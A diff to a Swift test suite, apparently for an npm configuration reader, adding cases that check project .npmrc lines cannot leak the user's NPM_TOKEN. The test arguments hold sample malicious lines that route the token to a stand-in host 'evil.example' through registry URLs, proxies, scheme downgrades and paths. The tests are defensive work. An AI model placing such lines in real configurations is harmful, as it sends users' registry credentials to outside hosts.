@@ -16,7 +16,8 @@ struct ProjectFileTests {
             "@evil:registry=https://evil.example/?${NPM_TOKEN}", "https-proxy=http://${NPM_TOKEN}.evil.example:1/",
             "proxy=${NPM_TOKEN}.evil.example", "//registry.npmjs.org.evil.example/:_authToken=${NPM_TOKEN}",
             "//registry.npmjs.org:8443/:_authToken=${NPM_TOKEN}", "//user@evil.example/:_authToken=${NPM_TOKEN}",
-            "@evil:registry=${NPM_TOKEN}", #"//evil.example/:_authToken="${NPM_TOKEN}""#,
+            "@evil:registry=${NPM_TOKEN}", "@${NPM_TOKEN}:registry=https://registry.example/",
+            #"//evil.example/:_authToken="${NPM_TOKEN}""#,
         ])
     func refused(_ line: String) throws {
         let read = try configuration(
@@ -45,6 +46,54 @@ struct ProjectFileTests {
                 """)
         #expect(try read.header("https://\(host)/x") == Secret("Bearer canary"))
         #expect(read.notices.isEmpty)
+    }
+
+    @Test(
+        "nor over another scheme than that of the user",
+        arguments: [
+            "@s:registry=http://${HOST}:443/", "@s:registry=http://${NPM_TOKEN}@registry.example:443/",
+            "proxy=http://${HOST}:443/",
+        ])
+    func scheme(_ line: String) throws {
+        let read = try configuration(
+            environment: ["NPM_TOKEN": "canary", "HOST": "registry.example"], project: line,
+            user: "registry=https://registry.example/")
+        #expect(read.scopedRegistries.isEmpty)
+        #expect(read.httpProxy == nil)
+        #expect(read.credentials.grants.isEmpty)
+        #expect(read.notices.count == 1)
+    }
+
+    @Test(
+        "nor into a path, which is shown and recorded",
+        arguments: [
+            "https://registry.example/${NPM_TOKEN}/", "https://registry.example/?t=${NPM_TOKEN}",
+            "https://registry.example${SLASH}${NPM_TOKEN}", "${BASE}${NPM_TOKEN}",
+        ])
+    func path(_ address: String) throws {
+        let read = try configuration(
+            environment: ["NPM_TOKEN": "canary", "BASE": "https://registry.example/", "SLASH": "/"],
+            project: "registry=\(address)\n@s:registry=\(address)", user: "registry=https://registry.example/")
+        #expect(read.registry == "https://registry.example/")
+        #expect(read.scopedRegistries.isEmpty)
+        #expect(read.notices.count == 2)
+    }
+
+    @Test(
+        "but a variable may name the registry that the user named",
+        arguments: ["${BASE}", "${BASE}?", "https://${HOST}/npm/", "https://${NPM_TOKEN}@registry.example/npm/"])
+    func sameRegistry(_ address: String) throws {
+        let read = try configuration(
+            environment: [
+                "NPM_TOKEN": "canary", "BASE": "https://registry.example/npm/", "HOST": "registry.example",
+            ], project: "@s:registry=\(address)", user: "registry=https://registry.example/")
+        #expect(read.scopedRegistries["s"]?.hasPrefix("https://registry.example/npm/") == true)
+        #expect(read.notices.isEmpty)
+    }
+
+    @Test("it may not say where the user's configuration is", arguments: ["userconfig", "globalconfig", "prefix"])
+    func otherFiles(_ key: String) throws {
+        #expect(try configuration(project: "\(key)=/elsewhere").notices.count == 1)
     }
 
     @Test("a token that is written out is the project's own affair")
